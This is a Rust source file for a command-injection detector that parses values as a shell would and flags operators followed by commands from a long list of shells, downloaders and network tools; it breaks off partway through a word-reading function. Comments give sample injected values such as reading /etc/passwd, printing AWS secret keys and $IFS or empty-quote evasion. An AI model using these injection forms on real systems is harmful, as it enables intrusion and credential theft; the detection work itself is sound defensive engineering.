//! Command injection by grammar: does the value change the token structure of a shell command
//! it is pasted into? The value is read as a POSIX shell (and cmd.exe) would after quote
//! removal and `$IFS` expansion, and it is an injection when an operator that starts a new
//! command (`;`, `|`, `&&`, `||`, `$(`, backticks, a newline) is followed by a real command in
//! a working shape: with no arguments where it works alone (`; id`), or with arguments that
//! look like a shell's (flags, paths, hosts, numbers, variables, redirections). Prose with
//! semicolons, ampersands and Markdown code spans does not take that shape.

use super::{Allowance, Found, NameLengths, Strictness};

#[derive(Debug, Clone, Copy, PartialEq)]
enum Sep {
    /// `;`, `|`, `&&`, `||`, `<(`: nothing else starts a command there.
    Hard,
    /// `$(` (and backticks inside double quotes): a command whose output replaces it, with
    /// any arguments (`$(printenv AWS_SECRET_ACCESS_KEY)`).
    Substitution,
    /// A single `&` (also the word "and" in prose) or a newline (multi-line text): only
    /// commands that are not English words, or arguments no prose has, count.
    Soft,
    /// A newline: multi-line text often quotes commands; only dangerous ones count, and none
    /// in Markdown with code fences.
    Newline,
    /// A backtick span with space or punctuation outside it: Markdown code, unless the field
    /// is known to reach a shell.
    Markdown,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Shape {
    /// Works with no arguments and is not an English word used alone (`id`, `whoami`).
    Alone,
    /// Needs arguments that look like a shell's (`cat /etc/passwd`, `sleep 10`).
    Args,
    /// A shell, interpreter, downloader or network tool: dangerous with any arguments.
    Dangerous,
}

/// For each first letter, the second letters (bit 26: none) command names have: most words
/// after an operator are rejected here with one lookup.
const PREFIXES: [u32; 26] = {
    let mut t = [0u32; 26];
    let mut k = 0;
    while k < COMMAND_LIST.len() {
        let n = COMMAND_LIST[k].0.as_bytes();
        if n[0].is_ascii_lowercase() {
            let second = if n.len() > 1 && n[1].is_ascii_lowercase() {
                n[1] - b'a'
            } else {
                26
            };
            t[(n[0] - b'a') as usize] |= 1 << second;
        }
        k += 1;
    }
    t
};

/// Whether a name (without its path) has the first two letters of a command's: `false` for
/// most words, from one lookup.
#[inline]
fn may_name_command(name: &[u8]) -> bool {
    let Some(first) = name.first().map(u8::to_ascii_lowercase) else {
        return false;
    };
    if !first.is_ascii_lowercase() {
        return false;
    }
    let second = match name.get(1).map(u8::to_ascii_lowercase) {
        Some(c) if c.is_ascii_lowercase() => c - b'a',
        _ => 26,
    };
    PREFIXES[(first - b'a') as usize] & (1 << second) != 0
}

/// The lengths of the command names, by first letter.
const NAME_LENGTHS: NameLengths = {
    let mut t = NameLengths::NONE;
    let mut k = 0;
    while k < COMMAND_LIST.len() {
        t = t.with(COMMAND_LIST[k].0.as_bytes());
        k += 1;
    }
    t
};

/// The command `word` names (with its path), if any. Bytes, not `str`: words read after
/// operators are ASCII, and checking them again as UTF-8 cost more than a lookup.
fn command(word: &[u8]) -> Option<Shape> {
    if word.len() > NAME_CAP {
        return None;
    }
    // Words here are short: a plain loop beats a vectorised search's set-up.
    let name = match word.iter().rposition(|&c| c == b'/' || c == b'\\') {
        Some(at) => &word[at + 1..],
        None => word,
    };
    // The two-letter filter first: most words after an operator are not commands.
    if !may_name_command(name) {
        return None;
    }
    command_named(name)
}

/// `command` for a name without its path that passed `may_name_command`.
fn command_named(name: &[u8]) -> Option<Shape> {
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    // Most names are short and carry no version: one lookup of their bytes as a number.
    let unversioned = name
        .last()
        .is_some_and(|&c| !c.is_ascii_digit() && c != b'.');
    if unversioned && name.len() <= PACKED_LEN {
        return match SHORT_COMMANDS.get(name) {
            Some((shape, Case::Any, _)) => Some(shape),
            Some((shape, Case::Lower, as_written)) if as_written => Some(shape),
            _ => None,
        };
    }
    // Then the lengths of the names with its first letter, as written and without a version:
    // a word that starts like a command (`execute`, `system`) is told from one more lookup.
    let base_len = name.len()
        - name
            .iter()
            .rev()
            .take_while(|&&c| c.is_ascii_digit() || c == b'.')
            .count();
    let base = &name[..base_len];
    if !NAME_LENGTHS.may_hold(name) && !NAME_LENGTHS.may_hold(base) {
        return None;
    }
    let mut buf = [0u8; 48];
    let lower = &mut buf[..name.len()];
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    // One lookup in lower case: Windows commands match in any case, POSIX ones only as
    // written in lower case (`ID` is not `id`).
    match COMMANDS.get(lower) {
        Some((shape, Case::Any)) => return Some(shape),
        Some((shape, Case::Lower)) if *lower == *name => return Some(shape),
        _ => {}
    }
    // Else without a version (`python3.12`).
    if base.len() == name.len() || base.iter().any(|c| c.is_ascii_uppercase()) {
        return None;
    }
    match COMMANDS.get(&lower[..base.len()]) {
        Some((shape, Case::Lower)) => Some(shape),
        _ => None,
    }
}

/// Whether a command runs whatever its case (Windows) or only in lower case (POSIX: `ID` is
/// not `id`).
#[derive(Debug, Clone, Copy, PartialEq)]
enum Case {
    Any,
    Lower,
}

/// Every command `command` knows, in lower case: the two-letter filter, the hash table and
/// `detect::vocabulary` are all built from this one list.
const COMMAND_LIST: &[(&str, Shape, Case)] = &[
    ("whoami", Shape::Alone, Case::Any),
    ("ipconfig", Shape::Alone, Case::Any),
    ("systeminfo", Shape::Alone, Case::Any),
    ("tasklist", Shape::Alone, Case::Any),
    ("netstat", Shape::Alone, Case::Any),
    ("ifconfig", Shape::Alone, Case::Any),
    ("hostname", Shape::Alone, Case::Any),
    ("powershell", Shape::Dangerous, Case::Any),
    ("pwsh", Shape::Dangerous, Case::Any),
    ("certutil", Shape::Dangerous, Case::Any),
    ("bitsadmin", Shape::Dangerous, Case::Any),
    ("wmic", Shape::Dangerous, Case::Any),
    ("mshta", Shape::Dangerous, Case::Any),
    ("rundll32", Shape::Dangerous, Case::Any),
    ("regsvr32", Shape::Dangerous, Case::Any),
    ("cscript", Shape::Dangerous, Case::Any),
    ("wscript", Shape::Dangerous, Case::Any),
    ("id", Shape::Alone, Case::Lower),
    ("uname", Shape::Alone, Case::Lower),
    ("ls", Shape::Alone, Case::Lower),
    ("env", Shape::Alone, Case::Lower),
    ("printenv", Shape::Alone, Case::Lower),
    ("pwd", Shape::Alone, Case::Lower),
    ("ps", Shape::Alone, Case::Lower),
    ("w", Shape::Alone, Case::Lower),
    ("last", Shape::Alone, Case::Lower),
    ("lsof", Shape::Alone, Case::Lower),
    ("dir", Shape::Alone, Case::Lower),
    ("bash", Shape::Dangerous, Case::Lower),
    ("sh", Shape::Dangerous, Case::Lower),
    ("zsh", Shape::Dangerous, Case::Lower),
    ("dash", Shape::Dangerous, Case::Lower),
    ("ksh", Shape::Dangerous, Case::Lower),
    ("csh", Shape::Dangerous, Case::Lower),
    ("tcsh", Shape::Dangerous, Case::Lower),
    ("ash", Shape::Dangerous, Case::Lower),
    ("busybox", Shape::Dangerous, Case::Lower),
    ("python", Shape::Dangerous, Case::Lower),
    ("perl", Shape::Dangerous, Case::Lower),
    ("ruby", Shape::Dangerous, Case::Lower),
    ("php", Shape::Dangerous, Case::Lower),
    ("node", Shape::Dangerous, Case::Lower),
    ("nodejs", Shape::Dangerous, Case::Lower),
    ("lua", Shape::Dangerous, Case::Lower),
    ("curl", Shape::Dangerous, Case::Lower),
    ("wget", Shape::Dangerous, Case::Lower),
    ("nc", Shape::Dangerous, Case::Lower),
    ("ncat", Shape::Dangerous, Case::Lower),
    ("netcat", Shape::Dangerous, Case::Lower),
    ("socat", Shape::Dangerous, Case::Lower),
    ("telnet", Shape::Dangerous, Case::Lower),
    ("mkfifo", Shape::Dangerous, Case::Lower),
    ("mknod", Shape::Dangerous, Case::Lower),
    ("openssl", Shape::Dangerous, Case::Lower),
    ("xterm", Shape::Dangerous, Case::Lower),
    ("nslookup", Shape::Dangerous, Case::Lower),
    ("tftp", Shape::Dangerous, Case::Lower),
    ("ftp", Shape::Dangerous, Case::Lower),
    ("scp", Shape::Dangerous, Case::Lower),
    ("ssh", Shape::Dangerous, Case::Lower),
    ("sudo", Shape::Dangerous, Case::Lower),
    ("crontab", Shape::Dangerous, Case::Lower),
    ("nohup", Shape::Dangerous, Case::Lower),
    ("base64", Shape::Dangerous, Case::Lower),
    ("xxd", Shape::Dangerous, Case::Lower),
    ("chmod", Shape::Dangerous, Case::Lower),
    ("chown", Shape::Dangerous, Case::Lower),
    ("useradd", Shape::Dangerous, Case::Lower),
    ("awk", Shape::Dangerous, Case::Lower),
    ("gawk", Shape::Dangerous, Case::Lower),
    ("xargs", Shape::Dangerous, Case::Lower),
    ("timeout", Shape::Dangerous, Case::Lower),
    ("exec", Shape::Dangerous, Case::Lower),
    ("eval", Shape::Dangerous, Case::Lower),
    ("cmd", Shape::Dangerous, Case::Lower),
    ("cat", Shape::Args, Case::Lower),
    ("tac", Shape::Args, Case::Lower),
    ("head", Shape::Args, Case::Lower),
    ("tail", Shape::Args, Case::Lower),
    ("more", Shape::Args, Case::Lower),
    ("less", Shape::Args, Case::Lower),
    ("rm", Shape::Args, Case::Lower),
    ("cp", Shape::Args, Case::Lower),
    ("mv", Shape::Args, Case::Lower),
    ("touch", Shape::Args, Case::Lower),
    ("echo", Shape::Args, Case::Lower),
    ("printf", Shape::Args, Case::Lower),
    ("sleep", Shape::Args, Case::Lower),
    ("ping", Shape::Args, Case::Lower),
    ("dig", Shape::Args, Case::Lower),
    ("host", Shape::Args, Case::Lower),
    ("kill", Shape::Args, Case::Lower),
    ("pkill", Shape::Args, Case::Lower),
    ("find", Shape::Args, Case::Lower),
    ("grep", Shape::Args, Case::Lower),
    ("sed", Shape::Args, Case::Lower),
    ("tar", Shape::Args, Case::Lower),
    ("zip", Shape::Args, Case::Lower),
    ("unzip", Shape::Args, Case::Lower),
    ("dd", Shape::Args, Case::Lower),
    ("date", Shape::Args, Case::Lower),
    ("type", Shape::Args, Case::Lower),
    ("net", Shape::Args, Case::Lower),
    ("reg", Shape::Args, Case::Lower),
    ("whois", Shape::Args, Case::Lower),
    ("traceroute", Shape::Args, Case::Lower),
    ("tee", Shape::Args, Case::Lower),
    ("source", Shape::Args, Case::Lower),
    ("export", Shape::Args, Case::Lower),
    ("set", Shape::Args, Case::Lower),
    ("su", Shape::Args, Case::Lower),
    ("passwd", Shape::Args, Case::Lower),
    ("wc", Shape::Args, Case::Lower),
    ("sort", Shape::Args, Case::Lower),
    ("od", Shape::Args, Case::Lower),
    ("strings", Shape::Args, Case::Lower),
    ("file", Shape::Args, Case::Lower),
    ("stat", Shape::Args, Case::Lower),
    ("mount", Shape::Args, Case::Lower),
    ("ip", Shape::Args, Case::Lower),
    ("arp", Shape::Args, Case::Lower),
    ("route", Shape::Args, Case::Lower),
    ("iptables", Shape::Args, Case::Lower),
    ("systemctl", Shape::Args, Case::Lower),
    ("service", Shape::Args, Case::Lower),
    ("aws", Shape::Args, Case::Lower),
    ("java", Shape::Args, Case::Lower),
    ("mysql", Shape::Args, Case::Lower),
    ("psql", Shape::Args, Case::Lower),
    ("sqlite3", Shape::Args, Case::Lower),
    ("git", Shape::Args, Case::Lower),
    ("nmap", Shape::Args, Case::Lower),
    ("cd", Shape::Args, Case::Lower),
    ("npm", Shape::Args, Case::Lower),
    ("npx", Shape::Args, Case::Lower),
    ("yarn", Shape::Args, Case::Lower),
    ("pip", Shape::Args, Case::Lower),
    ("pip3", Shape::Args, Case::Lower),
    ("docker", Shape::Args, Case::Lower),
    ("make", Shape::Args, Case::Lower),
    ("cargo", Shape::Args, Case::Lower),
    ("go", Shape::Args, Case::Lower),
    ("kubectl", Shape::Args, Case::Lower),
    ("terraform", Shape::Args, Case::Lower),
    ("mvn", Shape::Args, Case::Lower),
    ("gradle", Shape::Args, Case::Lower),
    ("del", Shape::Args, Case::Lower),
    ("erase", Shape::Args, Case::Lower),
    ("rd", Shape::Args, Case::Lower),
    ("rmdir", Shape::Args, Case::Lower),
    ("copy", Shape::Args, Case::Lower),
    ("move", Shape::Args, Case::Lower),
    ("ren", Shape::Args, Case::Lower),
    ("attrib", Shape::Args, Case::Lower),
    ("icacls", Shape::Args, Case::Lower),
    ("takeown", Shape::Args, Case::Lower),
    ("schtasks", Shape::Args, Case::Lower),
    ("sc", Shape::Args, Case::Lower),
    ("taskkill", Shape::Args, Case::Lower),
    ("findstr", Shape::Args, Case::Lower),
    ("start", Shape::Args, Case::Lower),
    ("wevtutil", Shape::Args, Case::Lower),
    ("vssadmin", Shape::Args, Case::Lower),
    ("bcdedit", Shape::Args, Case::Lower),
];

const COMMANDS: Names<512> = Names::new(COMMAND_LIST);

/// The names of `COMMAND_LIST`.
pub(super) fn command_names() -> impl Iterator<Item = &'static str> {
    COMMAND_LIST.iter().map(|c| c.0)
}

/// Command names in an open-addressing hash table built at compile time: a lookup hashes the
/// word once and compares it with one name or two, where a `match` on 150 strings compared it
/// with each name of its length in turn. `N` is a power of two, at least twice the names.
struct Names<const N: usize> {
    slots: [Option<(&'static str, Shape, Case)>; N],
}

impl<const N: usize> Names<N> {
    const fn hash(word: &[u8]) -> usize {
        // FNV-1a.
        let mut h: u32 = 0x811c_9dc5;
        let mut i = 0;
        while i < word.len() {
            h ^= word[i] as u32;
            h = h.wrapping_mul(0x0100_0193);
            i += 1;
        }
        h as usize & (N - 1)
    }

    const fn new(names: &[(&'static str, Shape, Case)]) -> Names<N> {
        assert!(N.is_power_of_two() && names.len() * 2 <= N);
        let mut slots = [None; N];
        let mut k = 0;
        while k < names.len() {
            let mut at = Self::hash(names[k].0.as_bytes());
            while slots[at].is_some() {
                at = (at + 1) & (N - 1);
            }
            slots[at] = Some(names[k]);
            k += 1;
        }
        Names { slots }
    }

    fn get(&self, word: &[u8]) -> Option<(Shape, Case)> {
        let mut at = Self::hash(word);
        loop {
            let (name, shape, case) = self.slots[at]?;
            if name.as_bytes() == word {
                return Some((shape, case));
            }
            at = (at + 1) & (N - 1);
        }
    }
}

/// Longest name `ShortNames` holds: as many bytes as a `u64` has.
const PACKED_LEN: usize = 8;

/// A name of up to `PACKED_LEN` bytes as one number, in lower case (ASCII letters), and
/// whether it was written so. Its length is compared apart: a word may hold a NUL.
const fn packed(word: &[u8]) -> (u64, bool) {
    let mut key = 0u64;
    let mut as_written = true;
    let mut i = 0;
    while i < word.len() && i < PACKED_LEN {
        let lower = word[i].to_ascii_lowercase();
        as_written &= lower == word[i];
        key |= (lower as u64) << (8 * i);
        i += 1;
    }
    (key, as_written)
}

/// The names of `COMMAND_LIST` of up to `PACKED_LEN` bytes, by their packed number: a lookup
/// is one multiplication and one comparison, where `Names` hashes and compares a byte at a
/// time (a judgment of a command word made that lookup a quarter of its cost).
struct ShortNames<const N: usize> {
    slots: [Option<(u64, usize, Shape, Case)>; N],
}

impl<const N: usize> ShortNames<N> {
    const fn slot(key: u64) -> usize {
        (key.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32) as usize & (N - 1)
    }

    const fn new(names: &[(&'static str, Shape, Case)]) -> ShortNames<N> {
        assert!(N.is_power_of_two() && names.len() * 2 <= N);
        let mut slots = [None; N];
        let mut k = 0;
        while k < names.len() {
            let name = names[k].0.as_bytes();
            if name.len() <= PACKED_LEN {
                let (key, lower) = packed(name);
                // Lookups compare the word in lower case: names are written in it.
                assert!(lower);
                let mut at = Self::slot(key);
                while slots[at].is_some() {
                    at = (at + 1) & (N - 1);
                }
                slots[at] = Some((key, name.len(), names[k].1, names[k].2));
            }
            k += 1;
        }
        ShortNames { slots }
    }

    /// The name `word` (at most `PACKED_LEN` bytes) is in any case, and whether `word` is
    /// written as the name is.
    fn get(&self, word: &[u8]) -> Option<(Shape, Case, bool)> {
        let (key, as_written) = packed(word);
        let mut at = Self::slot(key);
        loop {
            let (name, len, shape, case) = self.slots[at]?;
            if name == key && len == word.len() {
                return Some((shape, case, as_written));
            }
            at = (at + 1) & (N - 1);
        }
    }
}

const SHORT_COMMANDS: ShortNames<512> = ShortNames::new(COMMAND_LIST);

/// A first argument a shell user would type: a flag, path, variable, number, host or address,
/// redirection or quote.
fn shell_shaped(arg: &str) -> bool {
    let b = arg.as_bytes();
    // `host = db.internal`: a configuration line assigns, it does not run `host`.
    if b.is_empty() || b[0] == b'=' {
        return false;
    }
    if matches!(
        b[0],
        b'-' | b'/' | b'$' | b'~' | b'>' | b'<' | b'.' | b'*' | b'+'
    ) {
        return true;
    }
    if arg.contains(['/', '\\', '=', '*']) {
        return true;
    }
    if b.iter()
        .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b':')
    {
        return true;
    }
    // `attacker.example`, `10.0.0.1`
    let parts: Vec<&str> = arg.split('.').collect();
    parts.len() >= 2
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
        && parts
            .last()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().any(|c| c.is_ascii_alphabetic()))
}

/// Bytes that start an operator, a quote or an escape outside quotes. The two-byte operators
/// `$(`, `<(` and `>(` are found at their `(`: a `$`, `<` or `>` alone means nothing here,
/// and they are common in text.
const SHELL_BYTE: [bool; 256] = {
    let mut t = [false; 256];
    let special = b";|&\n`'\"\\(";
    let mut k = 0;
    while k < special.len() {
        t[special[k] as usize] = true;
        k += 1;
    }
    t
};

/// Bytes that mean something inside double quotes (`$(` found at its `(`).
const IN_DOUBLE_QUOTES: [bool; 256] = {
    let mut t = [false; 256];
    t[b'"' as usize] = true;
    t[b'\\' as usize] = true;
    t[b'`' as usize] = true;
    t[b'(' as usize] = true;
    t
};

/// Where new commands may start: each unquoted operator, in one pass that tracks quotes.
/// `quote` is the quote the value is pasted inside, if any.
/// Calls `each(sep, at, after)` for each; stops early when it returns a position.
fn separators(
    s: &str,
    quote: Option<u8>,
    strict: bool,
    mut each: impl FnMut(Sep, usize, usize) -> Option<usize>,
) -> Option<usize> {
    let b = s.as_bytes();
    let mut q = quote;
    let mut i = 0;
    // The byte after the last `\`: a `$` there is a literal, not the start of `$(`.
    let mut escaped = usize::MAX;
    // Whether the `(` at `i` ends `$(`, `<(` or `>(` whose first byte is not escaped.
    let opened_by = |i: usize, escaped: usize, first: &[u8]| {
        i > 0 && i - 1 != escaped && first.contains(&b[i - 1])
    };
    let trimmed = s.trim();
    let whole_backticks = trimmed.len() > 2 && trimmed.starts_with('`') && trimmed.ends_with('`');
    // Whether the value holds a Markdown fence, looked for at its first newline: only a
    // newline's meaning depends on it, and most values have none.
    let mut fenced: Option<bool> = None;
    while i < b.len() {
        // Most bytes mean nothing to the shell: skip them in a tight loop.
        if q.is_none() {
            while i < b.len() && !SHELL_BYTE[b[i] as usize] {
                i += 1;
            }
            if i >= b.len() {
                break;
            }
        }
        // Inside single quotes only the closing quote matters; inside double quotes, escapes
        // and substitutions too. The rest is skipped without a look.
        match q {
            Some(b'"') => {
                while i < b.len() && !IN_DOUBLE_QUOTES[b[i] as usize] {
                    i += 1;
                }
            }
            Some(open) => i = memchr::memchr(open, &b[i..]).map_or(b.len(), |p| i + p),
            None => {}
        }
        if i >= b.len() {
            break;
        }
        let c = b[i];
        if let Some(open) = q {
            if c == open {
                q = None;
            } else if open == b'"' && c == b'\\' {
                i += 1;
                escaped = i;
            } else if open == b'"' && c == b'`' && b.get(i + 1) == Some(&b'`') {
                // A Markdown fence, never a substitution.
                while i < b.len() && b[i] == b'`' {
                    i += 1;
                }
                continue;
            } else if open == b'"' && (c == b'`' || c == b'(' && opened_by(i, escaped, b"$")) {
                let at = if c == b'`' { i } else { i - 1 };
                // A span right after the quote (`"`id`"`) is the quoted text's command.
                let quoted_command = i > 0 && b[i - 1] == b'"';
                let markdown =
                    c == b'`' && !strict && !whole_backticks && !glued(b, i) && !quoted_command;
                let sep = if markdown {
                    // Markdown code, as outside quotes: a closed span is shown, not run.
                    match markdown_span_end(b, i) {
                        Some(end) => {
                            i = end;
                            continue;
                        }
                        None => Sep::Markdown,
                    }
                } else {
                    Sep::Substitution
                };
                if may_start_command(b, i + 1) {
                    if let Some(hit) = each(sep, at, i + 1) {
                        return Some(hit);
                    }
                }
                i += 1;
                continue;
            }
            i += 1;
            continue;
        }
        // Of a run of `;` or newlines only the last can be followed by a command: the others
        // are followed by the next one. A value can be such a run from end to end.
        if matches!(c, b';' | b'\n') {
            while b.get(i + 1) == Some(&c) {
                i += 1;
            }
        }
        let (sep, at) = match c {
            b'\'' | b'"' => {
                q = Some(c);
                i += 1;
                continue;
            }
            b'\\' => {
                escaped = i + 1;
                i += 2;
                continue;
            }
            b';' => (Sep::Hard, i),
            b'|' if b.get(i + 1) == Some(&b'|') => {
                i += 1;
                (Sep::Hard, i - 1)
            }
            b'|' => (Sep::Hard, i),
            b'&' if b.get(i + 1) == Some(&b'&') => {
                i += 1;
                (Sep::Hard, i - 1)
            }
            // `>&`: a redirection, not a separator
            b'&' if i > 0 && b[i - 1] == b'>' => {
                i += 1;
                continue;
            }
            b'&' => (Sep::Soft, i),
            b'\n' if *fenced.get_or_insert_with(|| FENCE.find(b).is_some()) => (Sep::Markdown, i),
            b'\n' => (Sep::Newline, i),
            b'(' if opened_by(i, escaped, b"$") && b.get(i + 1) != Some(&b'(') => {
                (Sep::Substitution, i - 1)
            }
            b'(' if opened_by(i, escaped, b"<>") => (Sep::Hard, i - 1),
            b'`' => {
                if b.get(i + 1) == Some(&b'`') {
                    while i < b.len() && b[i] == b'`' {
                        i += 1;
                    }
                    continue;
                }
                // A code span in Markdown has space or punctuation outside its backticks; a
                // substitution is glued to a word (`a`id`b`) or is the whole value.
                if glued(b, i) || whole_backticks || strict {
                    (Sep::Hard, i)
                } else {
                    // Markdown code is quoted text: what is inside the span (`a | b`) is
                    // shown, not run.
                    match memchr::memchr(b'`', &b[i + 1..]) {
                        Some(close) => {
                            i += close + 2;
                            continue;
                        }
                        None => (Sep::Markdown, i),
                    }
                }
            }
            _ => {
                i += 1;
                continue;
            }
        };
        // `i` is the operator's last byte.
        if may_start_command(b, i + 1) {
            if let Some(hit) = each(sep, at, i + 1) {
                return Some(hit);
            }
        }
        i += 1;
    }
    None
}

static FENCE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"```"));
static LITERAL_BLOCK: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"::"));
static TABLE_ROW: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"\n|"));
static INDENTED: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"\n "));

/// The value with what Markdown shows rather than runs blanked out, found once for the whole
/// document so that every reading (bare, in single or in double quotes) agrees on it whatever
/// quotes it holds. Offsets, newlines and fences stay. `None` when nothing is blanked.
///
/// - The code inside each fenced block: three or more backticks at the start of a line,
///   closed by a run as long at the start of a later line.
/// - reStructuredText literal blocks: the lines indented under a paragraph that ends with `::`
///   or under a `.. code-block::` (`.. code::`, `.. sourcecode::`) directive.
/// - Lines that start with `|` (tables), after the first: a shell rejects such a line whole
///   ("syntax error near unexpected token `|'") before running any of it. On the value's
///   first line a `|` follows the command the value is pasted into.
fn markdown_blanked(value: &str) -> Option<String> {
    let b = value.as_bytes();
    // Each of these spans lines. A value of one line (most, and every 1 KB field of operators)
    // is passed with one `memchr`: the substring searches below are slow on text dense with
    // their rarer byte (`&|&|...` for `\n|`).
    memchr::memchr(b'\n', b)?;
    let mut out: Option<Vec<u8>> = None;
    blank_fenced_code(b, &mut out);
    if LITERAL_BLOCK.find(b).is_some() {
        blank_literal_blocks(b, &mut out);
    }
    // Rows are looked for only where a line can start with `|`: most values have none.
    if TABLE_ROW.find(b).is_some()
        || INDENTED.find(b).is_some() && memchr::memchr(b'|', b).is_some()
    {
        blank_table_rows(b, &mut out);
    }
    // Whole characters were blanked (from an ASCII byte to an ASCII byte), so this is UTF-8.
    out.and_then(|v| String::from_utf8(v).ok())
}

/// Blanks `b[from..to]` in `out` (a copy of `b` made on first use), newlines kept.
fn blank(b: &[u8], out: &mut Option<Vec<u8>>, from: usize, to: usize) {
    let blanked = out.get_or_insert_with(|| b.to_vec());
    for byte in &mut blanked[from..to] {
        if *byte != b'\n' {
            *byte = b' ';
        }
    }
}

fn blank_fenced_code(b: &[u8], out: &mut Option<Vec<u8>>) {
    let run_at = |i: usize| b[i..].iter().take_while(|&&c| c == b'`').count();
    let mut from = 0;
    while let Some(p) = FENCE.find(&b[from..]) {
        let open = from + p;
        let run = run_at(open);
        let code = open + run;
        if !at_line_start(b, open) {
            from = code;
            continue;
        }
        let mut search = code;
        let close = loop {
            let Some(q) = FENCE.find(&b[search..]) else {
                break None;
            };
            let c = search + q;
            let close_run = run_at(c);
            if close_run >= run && at_line_start(b, c) {
                break Some((c, close_run));
            }
            search = c + close_run;
        };
        // An unclosed fence: nothing after it is closed either (for a run this long).
        let Some((close, close_run)) = close else {
            return;
        };
        blank(b, out, code, close);
        from = close + close_run;
    }
}

/// Line by line: a line that opens a literal block, then every line indented deeper than it
/// (or blank), up to the first that is not.
fn blank_literal_blocks(b: &[u8], out: &mut Option<Vec<u8>>) {
    let indent_of = |line: &[u8]| {
        line.iter()
            .take_while(|&&c| c == b' ' || c == b'\t')
            .count()
    };
    // The indentation of the line that opened the block being read.
    let mut opener: Option<usize> = None;
    let mut start = 0;
    while start < b.len() {
        let end = memchr::memchr(b'\n', &b[start..]).map_or(b.len(), |e| start + e);
        let line = &b[start..end];
        let indent = indent_of(line);
        let blank_line = indent == line.len() || line[indent..] == *b"\r";
        match opener {
            Some(o) if blank_line || indent > o => blank(b, out, start, end),
            _ => {
                let text = line[indent..].trim_ascii_end();
                let directive = [&b".. code-block::"[..], b".. code::", b".. sourcecode::"]
                    .iter()
                    .any(|d| text.starts_with(d));
                opener = (text.ends_with(b"::") || directive).then_some(indent);
            }
        }
        start = end + 1;
    }
}

/// One pass over the bytes: a value can be a row every two bytes (`\n|` over and over), where
/// a search per line would cost more than reading each byte.
fn blank_table_rows(b: &[u8], out: &mut Option<Vec<u8>>) {
    // Where the line being read starts, while only blanks have come on it since.
    let mut line_start: Option<usize> = None;
    let mut row: Option<usize> = None;
    for (k, &c) in b.iter().enumerate() {
        if c == b'\n' {
            if let Some(bar) = row.take() {
                blank(b, out, bar, k);
            }
            // A line continued from this one (`\` newline) is not a new line.
            line_start = (k == 0 || b[k - 1] != b'\\').then_some(k + 1);
            continue;
        }
        if let Some(start) = line_start {
            if c == b'|' {
                row = Some(k);
                line_start = None;
            } else if !matches!(c, b' ' | b'\t') || k - start >= 16 {
                line_start = None;
            }
        }
    }
    if let Some(bar) = row {
        blank(b, out, bar, b.len());
    }
}

/// Whether only blanks come before `i` on its line (a few: Markdown indents fences in lists).
fn at_line_start(b: &[u8], i: usize) -> bool {
    let mut k = i;
    while k > 0 && i - k < 16 && matches!(b[k - 1], b' ' | b'\t') {
        k -= 1;
    }
    k == 0 || b[k - 1] == b'\n'
}

/// Whether the backtick at `i` is glued to a word before it (`a`id`b`): a substitution, where
/// a Markdown code span has space or punctuation outside it.
fn glued(b: &[u8], i: usize) -> bool {
    i > 0 && is_word_byte(b[i - 1])
}

/// Inside double quotes, where a Markdown code span opened at `i` ends (past its closing
/// backtick), as outside quotes: the `"` a span holds (`` `eventType:"Lambda"` ``) is shown
/// code, not the end of the quotes.
fn markdown_span_end(b: &[u8], i: usize) -> Option<usize> {
    memchr::memchr(b'`', &b[i + 1..]).map(|close| i + close + 2)
}

/// Whether what follows an operator (past blanks) can start a command: a letter, a path, a
/// quote, an escape, a brace or an expansion. Most operators in hostile runs (`;;;`, `&&&&`)
/// are followed by another operator, and are dismissed here without reading further.
fn may_start_command(b: &[u8], after: usize) -> bool {
    b.get(after..)
        .and_then(|rest| rest.iter().find(|&&c| c != b' ' && c != b'\t'))
        .is_some_and(|&c| {
            c.is_ascii_alphabetic() || matches!(c, b'/' | b'.' | b'\\' | b'{' | b'\'' | b'"' | b'$')
        })
}

/// Longest word, once quotes and empty expansions are taken out, read after an operator:
/// command names and first arguments are short. The cap is on what the word says, not on the
/// bytes spelling it, so padding a command with empty quotes (`c''''...''at`) cannot push it
/// out of view. Reading stays linear: a word ends at the next unquoted operator or blank, so
/// the words read after one reading's operators do not overlap.
const WORD_CAP: usize = 256;

/// The next shell word from `i` with quotes removed, `\x` unescaped, `$IFS` read as a space,
/// empty expansions (`$@`, `$1`) dropped and brace expansion (`{cat,/etc/passwd}`) split;
/// `None` at an operator or the end. Returns the word and where reading stopped.
fn word(s: &str, i: usize, buf: &mut String) -> (Option<()>, usize) {
    word_until(s, i, buf, false)
}

/// Longest command name, with its path, that `command` looks at.
const NAME_CAP: usize = 48;

/// `word`, or with `head` only what can name a command: the word up to its first space (the
/// command, when brace expansion or quotes put arguments in the same word) and at most one
/// byte more than `NAME_CAP`.
fn word_until(s: &str, mut i: usize, buf: &mut String, head: bool) -> (Option<()>, usize) {
    let cap = if head { NAME_CAP + 1 } else { WORD_CAP };
    let b = s.as_bytes();
    buf.clear();
    // Leading blanks and `$IFS`.
    loop {
        match b.get(i) {
            Some(b' ' | b'\t' | b'\r') => i += 1,
            Some(b'$') if s[i..].starts_with("${IFS}") => i += 6,
            Some(b'$') if s[i..].starts_with("$IFS") => i += 4,
            _ => break,
        }
    }
    // `#` at the start of a word begins a comment: the command ends there.
    if b.get(i) == Some(&b'#') {
        return (None, i);
    }
    if b.get(i) == Some(&b'{') {
        let close = memchr::memchr(b'}', &b[i..(i + WORD_CAP).min(b.len())]);
        if let Some(e) = close {
            let inner = &s[i + 1..i + e];
            if inner.contains(',') && !inner.contains(' ') {
                match (head, inner.split_once(',')) {
                    (true, Some((name, _))) => buf.push_str(name),
                    _ => buf.push_str(&inner.replace(',', " ")),
                }
                return (Some(()), i + e + 1);
            }
        }
    }
    if matches!(b.get(i), Some(b'>' | b'<')) {
        buf.push('>');
